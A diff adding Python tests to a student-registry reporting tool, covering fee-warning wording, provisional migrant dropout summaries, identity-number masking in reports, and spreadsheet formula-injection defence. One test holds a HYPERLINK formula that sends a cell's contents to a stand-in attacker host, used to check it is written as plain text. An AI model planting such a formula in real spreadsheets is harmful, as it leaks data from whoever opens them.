@@ -26,12 +26,14 @@ from tests.conftest import (
     school_actor,
 )
 from xueji import excel, statistics
+from xueji.articles import Article
 from xueji.cli import main
 from xueji.errors import AccessDenied, ConcurrencyConflict, XuejiError
 from xueji.lifecycle import StudentStatus
 from xueji.masking import mask_ids
 from xueji.model import InfoGroup, Photo, SchoolClass
-from xueji.policy import Policy, Stage
+from xueji.policy import ANHUI_2013, Param, Policy, Stage
+from xueji.rules.changes import MigrantDropout
 from xueji.storage.sql import SqlStore
 
 D = dt.date
@@ -618,6 +620,33 @@ def test_notice_item3_maintenance_fee(province: Province) -> None:
     assert late.warnings
 
 
+def test_notice_item3_the_october_warning_names_the_instrument_it_comes_from() -> None:
+    """Found by the reports review: the fee's warning quoted Anhui's notice (通知第三项)
+    under any profile, right under that profile's own article for the rate. It names
+    the instrument the October rule comes from, marked inherited under a profile of
+    another instrument (which can set the rate, not the month)."""
+    own = Article("某教基〔2027〕1号", 9)
+    other = attrs.evolve(
+        ANHUI_2013,
+        code="other-2027",
+        name="某省办法",
+        instrument="某教基〔2027〕1号",
+        maintenance_fee_per_student=Param(Decimal("1.0"), own),
+    )
+    march = statistics.Statistics(D(2027, 3, 15), "34", ())
+    (warning,) = statistics.maintenance_fee(march, other).warnings
+    assert "皖教基〔2013〕20号（通知第三项；沿用 anhui-2013）" in warning
+    assert "inherited from anhui-2013" in warning
+    table = statistics.maintenance_fee(march, other).table()
+    assert any(str(own) in n for n in table.notes)  # the rate's article: the profile's own
+    (warning,) = statistics.maintenance_fee(march, ANHUI_2013).warnings
+    assert "皖教基〔2013〕20号（通知第三项）" in warning
+    assert "沿用" not in warning
+    assert "inherited" not in warning
+    october = statistics.Statistics(D(2027, 10, 15), "34", ())
+    assert statistics.maintenance_fee(october, other).warnings == ()
+
+
 def test_art27_migrant_dropouts_table() -> None:
     p = Province()
     s = p.register("A", 3, migrant=True, hukou_region="341203")
@@ -630,6 +659,30 @@ def test_art27_migrant_dropouts_table() -> None:
     )
     assert [row[:3] for row in table.rows] == [("341203", s.id, s.name)]
     assert "学期 term: 2026-09-01 至 2027-01-31 (2026-09-01 to 2027-01-31)" in table.notes
+
+
+def test_art27_a_migrant_summary_taken_before_the_term_s_end_says_it_is_not_final() -> None:
+    """Found by the reports review: a summary taken before the term's end wrote
+    本学期无随迁子女辍学 (none in the term) as if final. Taken before the end, it
+    warns that the term is not over, and says no "none in the term"; taken on the
+    last day or later, it says it."""
+    term = {"start": D(2026, 9, 1), "end": D(2027, 1, 31)}
+    final = "本学期无随迁子女辍学 (no migrant child dropped out in the term)"
+    for taken_on, over in ((D(2026, 11, 2), False), (D(2027, 1, 31), True), (D(2027, 2, 3), True)):
+        table = statistics.migrants_table({}, **term, scope="340104", taken_on=taken_on)
+        warned = [n for n in table.notes if n.startswith("注意 warning:")]
+        assert (final in table.notes) is over, (taken_on, table.notes)
+        assert bool(warned) is not over, (taken_on, table.notes)
+        if warned:
+            assert "2027-01-31" in warned[0]
+            assert taken_on.isoformat() in warned[0]
+            assert "not over" in warned[0]
+    s = Province().register("A", 3, migrant=True, hukou_region="341203")
+    line = MigrantDropout(s.id, s.name, "A", 3, "341203", D(2026, 10, 12), D(2026, 10, 9))
+    early = statistics.migrants_table(
+        {"341203": (line,)}, **term, scope="340104", taken_on=D(2026, 11, 2)
+    )
+    assert any(n.startswith("注意 warning:") for n in early.notes)  # the list may grow
 
 
 def test_notice_item3_the_fee_workbook_holds_numbers(province: Province, tmp_path: Path) -> None:
@@ -762,6 +815,63 @@ def test_art5_only_the_national_export_has_full_id_numbers(tmp_path: Path) -> No
     assert not any(i in repr(records) for i in ids)
     with pytest.raises(AccessDenied):
         p.reg.national_export(A)
+
+
+def test_art30_an_identity_number_in_a_name_is_masked_in_every_report(tmp_path: Path) -> None:
+    """Found by the reports review: a report's rows did not go through ``mask_ids``,
+    so a name holding an identity number (a data-entry slip the registry accepts)
+    was printed whole in the public 公示 class list and in the migrant summary handed
+    to another county. Every text cell of every report is masked now, but the
+    national export's identity columns (学籍号, 身份证件号, 监护人身份证件号)."""
+    p = Province()
+    slip = make_id(D(2019, 3, 1))
+    s = p.register("A", 4, migrant=True, hukou_region="341221", name=f"张三{slip}")
+    shown = f"张三{mask_ids(slip)}"
+    assert [r.name for r in p.reg.public_class_list(A, "A")] == [shown]
+    p.at(D(2026, 10, 12))
+    out = p.reg.record_dropout(A, s.id, "辍学")
+    assert out.request is not None
+    p.reg.approve(authority("340104"), out.request.id)
+    term = {"start": D(2026, 9, 1), "end": D(2027, 1, 31)}
+    summary = p.reg.migrant_dropouts(authority("3401"), **term)
+    assert [d.name for d in summary["341221"]] == [shown]
+    kept = p.register("A", 4, name=f"李四{slip}")  # 在籍, for the class list
+    tables = {
+        "classlist": statistics.public_list_table(
+            "A", p.reg.public_class_list(A, "A"), taken_on=p.reg.today()
+        ),
+        "migrants": statistics.migrants_table(
+            summary, **term, scope="3401", taken_on=D(2027, 1, 31)
+        ),
+        "stats": statistics.stats_table(
+            statistics.Statistics(
+                D(2026, 10, 15),
+                "34",
+                (
+                    statistics.StatRow(
+                        "3401", "", slip, Stage.PRIMARY, 1, StudentStatus.REGISTERED, 1
+                    ),
+                ),
+            )
+        ),
+    }
+    for name, table in tables.items():
+        for suffix in (".csv", ".xlsx"):
+            path = tmp_path / f"{name}{suffix}"
+            excel.write_table(path, table)
+            text = _dump(path)
+            assert slip not in text, path
+            assert mask_ids(slip) in text, path
+    # the national export: the identity columns whole (for the national system), a
+    # number typed into the name masked as everywhere else
+    row = next(
+        statistics.national_row(r)
+        for r in p.reg.national_export(PROVINCE)
+        if r.id_number == kept.id_number
+    )
+    assert row[1] == kept.id_number
+    assert row[3] == f"李四{mask_ids(slip)}"
+    assert slip not in repr(p.reg.national_export(PROVINCE))
 
 
 def test_art5_the_national_export_leaves_out_voided_records(province: Province) -> None:
@@ -1265,6 +1375,40 @@ def test_text_dates(text: str, day: dt.date | None) -> None:
             excel.parse_date(text)
     else:
         assert excel.parse_date(text) == day
+
+
+class _Text(str):
+    """A ``str`` subclass (a host's own text type), that even says it starts with
+    nothing."""
+
+    __slots__ = ()
+
+    def startswith(self, *args: Any) -> bool:
+        return False
+
+
+def test_a_report_cell_of_a_str_subclass_that_looks_like_a_formula_is_text(
+    tmp_path: Path,
+) -> None:
+    """Found by the reports review: the workbook writer looked for ``type(v) is str``,
+    so a ``str`` subclass starting with ``=`` (a name read by a host's own text type)
+    was written as a live formula; a CSV asked the value's own ``startswith``. A text
+    of any ``str`` type is written as plain text."""
+
+    class Shown:  # an object whose text is of such a type
+        def __str__(self) -> str:
+            return _Text("=2+2")
+
+    link = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+    rows = [(_Text(link), _Text("=1+2"), Shown())]
+    excel.write_table(tmp_path / "r.xlsx", excel.Table("t", ("a", "b", "c"), rows))
+    ws = openpyxl.load_workbook(tmp_path / "r.xlsx").active
+    assert ws is not None
+    cells = [(c.value, c.data_type) for row in ws.iter_rows(min_row=2) for c in row]
+    assert cells == [(link, "s"), ("=1+2", "s"), ("=2+2", "s")]
+    excel.write_table(tmp_path / "r.csv", excel.Table("t", ("a", "b", "c"), rows))
+    with open(tmp_path / "r.csv", encoding="utf-8-sig", newline="") as f:
+        assert list(csv.reader(f))[1] == ["'" + link, "'=1+2", "'=2+2"]
 
 
 def test_a_report_cell_that_looks_like_a_formula_is_text(tmp_path: Path) -> None:
